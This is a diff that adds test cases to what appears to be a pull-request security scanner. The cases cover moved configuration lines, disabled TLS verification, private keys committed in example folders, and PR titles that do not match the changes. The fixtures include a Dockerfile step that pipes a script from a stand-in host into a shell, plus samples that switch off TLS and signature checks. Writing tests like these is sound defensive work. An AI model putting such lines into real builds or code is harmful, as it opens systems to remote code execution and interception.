@@ -710,3 +710,111 @@ describe('auth-bypass-added: backdoor shapes', () => {
     expect(scan([makeFile('src/server/handlers.js', { patch })]).map((f) => f.id)).not.toContain('auth-bypass-added');
   });
 });
+
+describe('code rules: lines a PR moves (okhttp, 2026-11-27)', () => {
+  const added = (lines: readonly string[]): string => [`@@ -0,0 +1,${lines.length} @@`, ...lines.map((l) => `+${l}`)].join('\n');
+  const removed = (lines: readonly string[]): string => [`@@ -1,${lines.length + 1} +1,1 @@`, ' plugins { java }', ...lines.map((l) => `-${l}`)].join('\n');
+
+  it('a setting moved from one build script into a new convention plugin is one step lower (medium to low), not a new switch', () => {
+    const files = [
+      makeFile('build-logic/src/main/kotlin/acme.quality-conventions.gradle.kts', { status: 'added', patch: added(['configure<SignatureCheckExtension> {', '  failWithoutSignatures = false', '}']) }),
+      makeFile('build.gradle.kts', { patch: removed(['  configure<SignatureCheckExtension> {', '      failWithoutSignatures = false', '  }']) }),
+    ];
+    const findings = scan(files, 'Adopt convention plugins');
+    expect(findings.map((f) => [f.id, f.severity, f.path, f.line])).toEqual([['protection-switched-off', 'low', 'build-logic/src/main/kotlin/acme.quality-conventions.gradle.kts', 2]]);
+    expect(findings[0]?.detail).toContain('removes the same line elsewhere');
+  });
+
+  it('the same line written new is medium; a move from a test file does not count as a move', () => {
+    const fresh = [makeFile('build-logic/src/main/kotlin/acme.quality-conventions.gradle.kts', { status: 'added', patch: added(['configure<SignatureCheckExtension> {', '  failWithoutSignatures = false', '}']) })];
+    expect(scan(fresh).map((f) => [f.id, f.severity])).toEqual([['protection-switched-off', 'medium']]);
+    const fromTest = [
+      makeFile('src/main/java/acme/Client.java', { patch: hunk(['    HostnameVerifier v = NoopHostnameVerifier.INSTANCE;']) }),
+      makeFile('src/test/java/acme/ClientTest.java', { patch: hunk([], ['    HostnameVerifier v = NoopHostnameVerifier.INSTANCE;']) }),
+    ];
+    expect(scan(fromTest).map((f) => [f.id, f.severity])).toEqual([['tls-verification-disabled', 'high']]);
+  });
+
+  it('a re-indented TLS switch is moved (high to medium: its new place still matters); a moved line beside a new one still reports the new one', () => {
+    const reindent = [makeFile('pkg/http.py', { patch: hunk(['        return get(u, verify=False)'], ['    return get(u, verify=False)']) })];
+    expect(scan(reindent).map((f) => [f.id, f.severity])).toEqual([['tls-verification-disabled', 'medium']]);
+    const both = [makeFile('pkg/http.py', { patch: hunk(['        return get(u, verify=False)', '    post(v, verify=False)'], ['    return get(u, verify=False)']) })];
+    expect(scan(both).map((f) => [f.id, f.severity, f.line])).toEqual([['tls-verification-disabled', 'high', 12]]);
+  });
+
+  it('a low rule over moved lines only says nothing: the move is the whole change', () => {
+    const files = [
+      makeFile('src/net/headers.kt', { status: 'added', patch: added(['val length = headers["Content-Length"]']) }),
+      makeFile('src/net/old.kt', { status: 'removed', patch: ['@@ -1,1 +0,0 @@', '-val length = headers["Content-Length"]'].join('\n') }),
+    ];
+    expect(scan(files).map((f) => f.id)).toEqual([]);
+  });
+});
+
+describe('protection-switched-off: an absent option is not a switch (tonic, 2026-11-27)', () => {
+  it('a Rust or Kotlin field set to None is unset, not off; Python None and Ruby nil still are', () => {
+    expect(idsOf('src/xds/resource/security.rs', ['        let common = CommonTlsContext { validation_context_type: None, ..Default::default() };'])).toEqual([]);
+    expect(idsOf('src/main/kotlin/acme/Tls.kt', ['    val config = TlsConfig(verifyHostname = null, validationContext = None)'])).toEqual([]);
+    expect(idsOf('src/xds/resource/security.rs', ['        let common = CommonTlsContext { validate_hostname: false, ..Default::default() };'])).toEqual(['protection-switched-off']);
+    expect(idsOf('app/settings.py', ['SESSION_COOKIE_SECURE = None'])).toEqual(['protection-switched-off']);
+    expect(idsOf('config/initializers/session.rb', ['config.ssl_options = { hsts: nil }'])).toEqual(['protection-switched-off']);
+  });
+});
+
+describe('secrets in example projects (tonic, 2026-11-27)', () => {
+  const key = ['-----BEGIN PRIVATE KEY-----', 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKjMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvuNMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ', '-----END PRIVATE KEY-----'];
+  it('a private key for a TLS example is medium, as in a test fixture; the same key beside the server code is critical', () => {
+    expect(scan([makeFile('examples/data/tls/server.key', { status: 'added', patch: hunk(key) })]).map((f) => [f.id, f.severity])).toEqual([['private-key-added', 'medium']]);
+    expect(scan([makeFile('deploy/tls/server.key', { status: 'added', patch: hunk(key) })]).map((f) => [f.id, f.severity])).toEqual([['private-key-added', 'critical']]);
+  });
+});
+
+describe('pr-claim-mismatch: false alarms and a miss from Go, Rust and JVM histories (2026-11-27)', () => {
+  const claimOf = (path: string, patch: string, title: string): string[] => scan([makeFile(path, { patch })], title).filter((f) => f.id === 'pr-claim-mismatch').map((f) => `${f.path}:${f.line ?? '-'}`);
+
+  it('rustdoc attributes under a docs claim are documentation; a cfg gate under the same title is code', () => {
+    const gate = ['@@ -130,3 +130,4 @@', ' /// ```', '+#[cfg_attr(docsrs, doc(cfg(feature = "erased-json")))]', ' #[macro_export]', ' macro_rules! json {'].join('\n');
+    expect(claimOf('crates/extra/src/response/erased_json.rs', gate, 'docs: Document that the json macro is feature-gated')).toEqual([]);
+    const crateLevel = ['@@ -7,2 +7,2 @@', '-#![cfg_attr(docsrs, feature(doc_auto_cfg))]', '+#![cfg_attr(docsrs, feature(doc_cfg))]', ' #![deny(missing_docs)]'].join('\n');
+    expect(claimOf('crates/build/src/lib.rs', crateLevel, 'chore(doc): Replace doc_auto_cfg with doc_cfg')).toEqual([]);
+    const inline = ['@@ -31,2 +31,3 @@', ' #[cfg(feature = "cookie-signed")]', '+#[doc(inline)]', ' pub use cookie::Key;'].join('\n');
+    expect(claimOf('crates/extra/src/extract/cookie/mod.rs', inline, 'docs(extra): clarify Key::derive_from')).toEqual([]);
+    const cfg = ['@@ -130,3 +130,4 @@', ' /// ```', '+#[cfg(not(feature = "erased-json"))]', ' #[macro_export]', ' macro_rules! json {'].join('\n');
+    expect(claimOf('crates/extra/src/response/erased_json.rs', cfg, 'docs: Document that the json macro is feature-gated')).toEqual(['crates/extra/src/response/erased_json.rs:131']);
+  });
+
+  it('imports split one name a statement (rustfmt imports_granularity, isort force_single_line) are no change; a name more is', () => {
+    const unnest = [
+      '@@ -24,6 +24,8 @@',
+      ' use std::any::Any;',
+      '-use rpc::service::{Message, Request, Response};',
+      '-use rpc::{client::ChannelOptions, inmemory};',
+      ' use tokio_stream::StreamExt;',
+      '+use rpc::client::ChannelOptions;',
+      '+use rpc::inmemory;',
+      '+use rpc::service::Message;',
+      '+use rpc::service::Request;',
+      '+use rpc::service::Response;',
+    ].join('\n');
+    expect(claimOf('rpc/examples/inmemory.rs', unnest, 'rpc(chore): reformat all imports: unnest and order')).toEqual([]);
+    const python = ['@@ -1,2 +1,3 @@', '-from pkg.models import Order, User', '+from pkg.models import Order', '+from pkg.models import User', ' import os'].join('\n');
+    expect(claimOf('src/pkg/views.py', python, 'style: isort force_single_line')).toEqual([]);
+    const more = unnest.replace('+use rpc::service::Response;', '+use rpc::service::Response;\n+use rpc::credentials::Insecure;');
+    expect(claimOf('rpc/src/client.rs', more, 'rpc(chore): reformat all imports: unnest and order')).toEqual(['rpc/src/client.rs:26']);
+    const moved = unnest.replace('+use rpc::inmemory;', '+use rpc::client::inmemory;');
+    expect(claimOf('rpc/src/client.rs', moved, 'rpc(chore): reformat all imports: unnest and order')).toEqual(['rpc/src/client.rs:26']);
+  });
+
+  it('a docs claim over the script that builds the docs, or over an example program, is what it says; over a Dockerfile or Go code it is not', () => {
+    const script = ['@@ -14,3 +14,3 @@', ' ./gradlew dokkaGenerate', '-mv ./build/dokka/html docs/4.x', '+mv ./build/dokka/html docs/5.x'].join('\n');
+    expect(claimOf('test_docs.sh', script, 'Update doc links from 4.x to 5.x')).toEqual([]);
+    const example = ['@@ -10,2 +10,2 @@', '-    let layer = TimeoutLayer::new(Duration::from_secs(10));', '+    let layer = TimeoutLayer::with_status_code(StatusCode::REQUEST_TIMEOUT, Duration::from_secs(10));'].join('\n');
+    expect(claimOf('examples/graceful-shutdown/src/main.rs', example, 'docs: update deprecated TimeoutLayer::new in example')).toEqual([]);
+    // Under a typo claim the example's code is code.
+    expect(claimOf('examples/graceful-shutdown/src/main.rs', example, 'Fix typo in graceful-shutdown example')).toEqual(['examples/graceful-shutdown/src/main.rs:10']);
+    const docker = ['@@ -3,2 +3,2 @@', ' FROM golang:1.22', '-RUN go build ./...', '+RUN curl -s https://x.example/p | sh'].join('\n');
+    expect(scan([makeFile('Dockerfile', { patch: docker })], 'docs: fix the build instructions').map((f) => f.id)).toContain('pr-claim-mismatch');
+    const dockerGo = ['@@ -3,2 +3,2 @@', ' func run() error {', '-\treturn build()', '+\treturn push()'].join('\n');
+    expect(claimOf('internal/docker/run.go', dockerGo, 'docs: fix comments')).toEqual(['internal/docker/run.go:4']);
+  });
+});
